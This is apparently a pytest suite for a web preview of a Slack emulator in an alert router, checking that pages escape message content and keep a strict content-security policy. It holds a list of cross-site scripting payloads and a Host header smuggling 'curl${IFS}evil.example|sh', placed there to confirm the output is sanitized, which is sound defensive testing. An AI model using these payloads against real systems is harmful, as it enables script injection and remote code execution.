"""The pages: what a person sees, and that nothing of a message is live."""

import urllib.error
import urllib.request
from html.parser import HTMLParser
from typing import Any

import pytest
from starlette.applications import Starlette
from starlette.routing import Mount
from starlette.testclient import TestClient

from router.preview.app import preview_app
from router.preview.emulator import Emulator
from router.preview.rates import OverLimit, Rates
from router.preview.workspace import ChannelSeed
from tests.preview.test_samples import SAMPLES, load
from tests.preview.workspace import ALICE, ARCHIVED, EDIT, NOW, ONCALL, OTHER, OWN, POST, Client

ALLOWED_TAGS = {
    "html", "head", "meta", "title", "link", "body", "main", "header", "h1", "h2", "h3", "p", "section", "article",
    "div", "span", "ul", "li", "a", "b", "strong", "em", "s", "small", "code", "pre", "blockquote", "time", "br", "hr",
    "svg", "rect", "details", "summary",
}  # fmt: skip
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "<javascript:alert(1)|runbook>",
    '<https://e.example/"onmouseover="alert(1)|x>',
    "<https://e.example/|<b>x</b>>",
    "<https://e.example/|&lt;script&gt;alert(1)&lt;/script&gt;>",
    "https://e.example/'\"><script>alert(1)</script>",
    "<!date^1763722980^<b>{time}</b>|<i>>",
    "<!date^1763722980^&lt;b&gt;{time}|&lt;script&gt;>",
    "{{ 7 * 7 }}{% raw %}",
    "]]><!--",
    "``` </pre><script>alert(1)</script> ```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)


class Page(HTMLParser):
    """The tags, attributes and words of a page."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.html = html
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str | None]] = []
        self.words = ""
        self.feed(html)
        self.text = " ".join(self.words.split())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.words += data

    def values(self, tag: str, attribute: str) -> list[str | None]:
        return [value for found, name, value in self.attributes if (found, name) == (tag, attribute)]


def page(client: Client, path: str) -> Page:
    with urllib.request.urlopen(f"{client.url}{path}", timeout=10) as answer:
        policy = answer.headers["content-security-policy"]
        assert policy.startswith("default-src 'none'; style-src 'self'")
        return Page(answer.read().decode())


def section(text: str) -> dict[str, Any]:
    return {"type": "section", "text": {"type": "mrkdwn", "text": text}}


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_a_message_is_live(client: Client, text: str) -> None:
    """In the text, every block, a button and an attachment: only our own tags, http links and no handlers."""
    plain = {"type": "plain_text", "text": text[:75]}
    client.post(text=text)
    client.post(
        text=text,
        blocks=[
            {"type": "header", "text": plain},
            section(text),
            {"type": "section", "fields": [{"type": "mrkdwn", "text": text}, plain]},
            {"type": "context", "elements": [{"type": "mrkdwn", "text": text}]},
            {
                "type": "actions",
                "elements": [
                    {"type": "button", "text": plain, "action_id": "a"},
                    {"type": "external_select", "placeholder": plain, "action_id": "b"},
                    {
                        "type": "static_select",
                        "action_id": "c",
                        "option_groups": [
                            {"label": plain, "options": [{"text": plain, "value": "1", "description": plain}]},
                        ],
                    },
                    {"type": "overflow", "action_id": "d", "options": [{"text": plain, "value": "1"}]},
                ],
            },
        ],
        attachments=[{"color": "#B3261E", "blocks": [section(text)]}, {"fallback": text}, {"text": text}],
    )
    for path in ("", f"channels/{OWN}"):
        shown = page(client, path)
        assert shown.tags <= ALLOWED_TAGS
        assert not [name for _, name, _ in shown.attributes if name.startswith("on") or name == "style"]
        hrefs = [str(href) for href in shown.values("a", "href")]
        assert all(href.startswith(("http://", "https://", "#", "../", "./", "channels/", OWN)) for href in hrefs), (
            hrefs
        )


def test_what_can_be_chosen_is_readable(client: Client) -> None:
    """A select shows its words, its choices, and which of them is chosen."""

    def plain(text: str) -> dict[str, Any]:
        return {"type": "plain_text", "text": text}

    def option(text: str) -> dict[str, Any]:
        return {"text": plain(text), "value": text}

    client.post(
        blocks=[
            {"type": "actions", "elements": [
                {"type": "external_select", "action_id": "a", "placeholder": plain("Not ours: whose?")},
                {"type": "static_select", "action_id": "b", "placeholder": plain("Snooze"),
                 "options": [option("1 hour"), option("1 day")]},
                {"type": "static_select", "action_id": "c", "initial_option": option("Chosen"),
                 "options": [option("Chosen"), option("Other")]},
                {"type": "overflow", "action_id": "d", "options": [{**option("Graph"), "url": "https://g.example/"}]},
            ]},
        ]
    )  # fmt: skip
    shown = page(client, f"channels/{OWN}")
    assert "Not ours: whose? ▾" in shown.text
    assert "Snooze ▾ 1 hour 1 day" in shown.text
    assert "Chosen ▾ Chosen Other" in shown.text
    assert "https://g.example/" in shown.values("a", "href")


def test_address_of_a_message(client: Client) -> None:
    """What auth.test and chat.getPermalink say leads to the page that shows the message, also when it is old."""
    ts = client.post(text="the old one")
    client.ok("chat.postMessage", **{**POST, "text": "below it", "thread_ts": ts})
    for number in range(40):
        client.server.emulator.advance(2)
        client.post(text=f"message {number}")
    link = client.read("chat.getPermalink", channel=OWN, message_ts=ts).body["permalink"]
    assert link == f"{client.ok('auth.test')['url']}archives/{OWN}/p{ts.replace('.', '')}"
    with urllib.request.urlopen(link, timeout=10) as answer:
        assert answer.url.endswith(f"#m{ts}")
        shown = Page(answer.read().decode())
    assert "the old one" in shown.text
    assert "below it" in shown.text
    assert f"m{ts}" in shown.values("div", "id")


@pytest.mark.parametrize("path", ["p1", "1763722980000100", "p17637229800001000000"])
def test_address_of_nothing(client: Client, path: str) -> None:
    """Not an address that Slack would make."""
    with pytest.raises(urllib.error.HTTPError, match="404"):
        page(client, f"archives/{OWN}/{path}")


def test_a_message_reads_as_in_slack(client: Client) -> None:
    """Header, fields, mention, date in UTC, link, code, colour."""
    client.post(
        blocks=[
            {"type": "header", "text": {"type": "plain_text", "text": "CRITICAL · HighErrorRate"}},
            {"type": "section", "fields": [
                {"type": "mrkdwn", "text": f"*Owner*\nPayments <!subteam^{ONCALL}>"},
                {"type": "mrkdwn", "text": "<!date^1763722980^{date_short_pretty} {time}|2025-11-21 11:03 UTC>"},
            ]},
            section("<https://runbooks.example.com/x?a=1&amp;b=2|Runbook> `order_id` in <#C0OWNCHAN2>"),
        ],
        attachments=[{"color": "danger", "blocks": [section("5 instances")]}],
    )  # fmt: skip
    shown = page(client, f"channels/{OWN}")
    assert "CRITICAL · HighErrorRate" in shown.text
    assert "Owner" in shown.text
    assert "@oncall" in shown.text
    assert "today 11:03 UTC" in shown.text
    assert shown.values("time", "title") == ["2025-11-21 11:03 UTC"]
    assert "https://runbooks.example.com/x?a=1&b=2" in shown.values("a", "href")
    assert OTHER in shown.values("a", "href")
    assert "<code>order_id</code>" in shown.html
    assert shown.values("rect", "fill") == ["#a30200"]


@pytest.mark.parametrize("path", SAMPLES, ids=lambda path: path.stem)
def test_every_kind_of_message_can_be_shown(client: Client, path: Any) -> None:
    """Every header and every plain word of the samples is on the page."""
    sample = load(path)
    client.post(text=sample["text"], blocks=sample["blocks"], attachments=sample.get("attachments", []))
    shown = page(client, f"channels/{OWN}")
    for block in sample["blocks"]:
        if block["type"] == "header":
            assert " ".join(block["text"]["text"].split()) in shown.text
    assert shown.tags <= ALLOWED_TAGS


def test_replies_stand_beneath_their_root_and_roots_newest_first(client: Client) -> None:
    """The newest root is on top; a thread reads downwards."""
    first = client.post(text="first root")
    client.post(text="second root")
    client.post(text="first reply", thread_ts=first)
    client.post(text="second reply", thread_ts=first)
    words = page(client, f"channels/{OWN}").text
    order = [words.index(text) for text in ("second root", "first root", "first reply", "second reply")]
    assert order == sorted(order)
    assert "2 replies" in words


def test_edits_are_counted_and_marked_by_slacks_rule(client: Client) -> None:
    """Our note always, with its time; Slack's mark only where the edit was of text."""
    blocks = client.post(blocks=[section("words")])
    client.emulator.advance(3_600)
    for _ in range(2):
        client.ok("chat.update", **EDIT, ts=blocks, blocks=[section("words again")])
    words = page(client, f"channels/{OWN}").text
    assert "edited 2 times, last 12:03" in words
    assert "(edited)" not in words
    client.ok("chat.update", **EDIT, ts=client.post())
    words = page(client, f"channels/{OWN}").text
    assert "edited once" in words
    assert "(edited)" in words


def test_what_slack_would_hide_is_marked(client: Client) -> None:
    """A message over the rate limit is on the page, and says that nobody would see it."""
    client.emulator.set_rates(Rates(over_limit=OverLimit.HIDE))
    client.post()
    assert "hidden" not in page(client, f"channels/{OWN}").text
    client.post()
    assert "hidden by Slack’s rate limit" in page(client, f"channels/{OWN}").text


def test_the_index_has_the_newest_channel_first(client: Client) -> None:
    """With its count, its newest headline, and what is new since a quarter of an hour."""
    client.post(channel=OTHER, text="older news")
    client.emulator.advance(1_000)
    client.post(text="fresh news")
    words = page(client, "").text
    assert words.index("# own") < words.index("# other") < words.index("# public")
    assert "fresh news 1 new · 1 message" in words
    assert "older news 1 message" in words


def test_broken_rules_are_on_the_index(client: Client) -> None:
    """In preview mode nobody else would say so."""
    assert "Rules broken" not in page(client, "").text
    client.post(text="<!channel>")
    client.call("chat.postMessage", channel='"><script>', text="x")
    words = page(client, "").text
    assert "Rules broken: 2" in words
    assert "<!channel> notifies a whole channel (chat.postMessage, rule 26, C0OWNCHAN1)" in words


def test_a_long_channel_has_pages(client: Client) -> None:
    """Every root is on exactly one of them."""
    stamps = [client.post() for _ in range(65)]
    path, seen = f"channels/{OWN}", []
    while path:
        shown = page(client, path)
        seen += [value for tag, name, value in shown.attributes if (tag, name) == ("div", "id")]
        older = [str(href) for href in shown.values("a", "href") if "?before=" in str(href)]
        path = f"channels/{older[0]}" if older else ""
    assert seen == [f"m{ts}" for ts in reversed(stamps)]


def test_pages_refresh_themselves_unless_paused(client: Client) -> None:
    """Who reads, selects or copies can stop it."""
    client.post()
    assert page(client, "").values("meta", "http-equiv") == ["refresh"]
    assert page(client, f"channels/{OWN}").values("meta", "http-equiv") == ["refresh"]
    assert page(client, f"channels/{OWN}?paused").values("meta", "http-equiv") == []


def test_an_empty_channel_says_how_to_fill_it(client: Client) -> None:
    """With a command to paste."""
    words = page(client, f"channels/{OWN}").text
    assert "No message yet" in words
    assert f"{client.url}api/chat.postMessage" in words
    assert f'"channel": "{OWN}"' in words


def test_an_unknown_channel_is_not_found(client: Client) -> None:
    """A friendly page with a way back."""
    with pytest.raises(urllib.error.HTTPError) as missing:
        page(client, "channels/%3Cscript%3E")
    with missing.value as answer:
        assert answer.code == 404
        assert "No such channel" in answer.read().decode()


def test_an_archived_channel_says_so(client: Client) -> None:
    """In the list and on its page."""
    assert "archived archived" in page(client, "").text
    assert f"{ARCHIVED} · archived" in page(client, f"channels/{ARCHIVED}").text


def test_a_person_is_named(client: Client) -> None:
    """Not only the router writes into a channel."""
    client.emulator.say(OWN, "on it", user=ALICE)
    assert "alice" in page(client, f"channels/{OWN}").text


@pytest.fixture
def mounted() -> TestClient:
    """As the router serves it in preview mode."""
    emulator = Emulator(clock=lambda: NOW)
    emulator.seed(channels=[ChannelSeed(id=OWN, name="own")])
    return TestClient(Starlette(routes=[Mount("/preview", preview_app(emulator, control=False))]))


def test_mounted_beneath_a_path(mounted: TestClient) -> None:
    """Links and styles are relative, the API answers there, and the empty page shows the router's webhook."""
    index = mounted.get("/preview/")
    assert 'href="channels/C0OWNCHAN1"' in index.text
    assert "http://testserver/webhooks/alertmanager" in index.text
    assert 'href="../style.css"' in mounted.get(f"/preview/channels/{OWN}").text
    assert mounted.get("/preview/style.css").headers["content-type"].startswith("text/css")
    headers = {"Authorization": "Bearer xoxb-preview"}
    assert mounted.post("/preview/api/auth.test", headers=headers).json()["ok"]


@pytest.mark.parametrize("path", ["seed", "faults", "clock", "state", "violations"])
def test_the_router_has_no_control_paths(mounted: TestClient, path: str) -> None:
    """Only tests may make faults."""
    assert mounted.get(f"/preview/_emu/{path}").status_code == 404
    assert mounted.post(f"/preview/_emu/{path}", json={}).status_code == 404


def test_a_hostile_host_header_is_not_repeated(mounted: TestClient) -> None:
    """The command on the page is pasted into a shell."""
    shown = mounted.get("/preview/", headers={"Host": "x;curl${IFS}evil.example|sh"}).text
    assert "evil" not in shown
